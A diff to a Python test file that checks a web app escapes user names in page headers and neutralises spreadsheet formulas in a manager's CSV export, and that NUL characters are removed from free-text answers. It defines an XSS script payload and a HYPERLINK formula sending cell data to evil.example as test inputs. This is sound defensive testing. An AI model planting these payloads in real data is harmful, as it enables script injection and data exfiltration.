@@ -9,7 +9,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from app import create_app, db
 from app.content import ContentError
@@ -25,11 +25,19 @@ SCRIPT_NAME = '<script>alert("x")</script>'
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
 
 
+def stored_before_the_rule(app, email: str, full_name: str) -> None:
+    """Give an account a name saved before names refused symbols: pages and exports must
+    still show it safely (app/domain/names.py refuses such a name when it is given now)."""
+    with app.app_context():
+        db.session().execute(update(User).where(User.email == email).values(full_name=full_name))
+        db.session().commit()
+
+
 # Finding 3: the signed-in user's name reached the header (and every NHS.UK component) raw.
 
 
 def test_a_name_with_markup_is_escaped_in_the_header_and_every_component(app, client, make_user):
-    make_user(full_name=SCRIPT_NAME)
+    stored_before_the_rule(app, make_user(), SCRIPT_NAME)
     sign_in(client, "learner@example.org")
     for url in ("/", "/account/", "/modules/"):
         page = client.get(url).text
@@ -125,7 +133,8 @@ def test_csv_cells_that_could_start_a_formula_are_neutralised(start):
 
 def test_the_managers_export_neutralises_a_formula_in_a_name(app, client, make_user):
     make_user(email="manager@example.org", role="manager", org="Riverside PCN")
-    make_user(email="evil@example.org", org="Riverside PCN", full_name=FORMULA_NAME)
+    make_user(email="evil@example.org", org="Riverside PCN")
+    stored_before_the_rule(app, "evil@example.org", FORMULA_NAME)
     sign_in(client, "manager@example.org")
     rows = list(csv.reader(io.StringIO(client.get("/manage/export.csv").text)))
     names = {row[0] for row in rows[1:]}
@@ -152,15 +161,17 @@ def test_a_nul_byte_in_any_form_answers_400_with_the_usual_page(app, client, mak
     assert client.get("/modules/?x=%00").status_code == 400
 
 
-def test_a_nul_byte_in_a_reflection_answers_400_and_keeps_what_was_saved(app, client, make_user):
+def test_a_nul_byte_in_a_reflection_is_taken_out_and_the_rest_saved(app, client, make_user):
+    """Free text (flask_app.FREE_TEXT) loses its control characters, NUL among them, rather
+    than the whole of what was written."""
     make_user()
     sign_in(client, "learner@example.org")
     module = next(m for m in app.extensions["linkwise.catalogue"].modules if m.assessment)
     pass_module(app, client, "learner@example.org", module)
     page = f"/modules/{module.slug}/certificate/"
     post_form(client, page, {"learned": "kept"})
-    assert post_form(client, page, {"learned": "bad\x00"}).status_code == 400
-    assert ">kept</textarea>" in client.get(page).text
+    assert post_form(client, page, {"learned": "new\x00 words\x07"}).status_code == 302
+    assert ">new words</textarea>" in client.get(page).text
 
 
 def test_an_over_long_sign_in_email_is_a_form_error_and_is_audited(app, client):
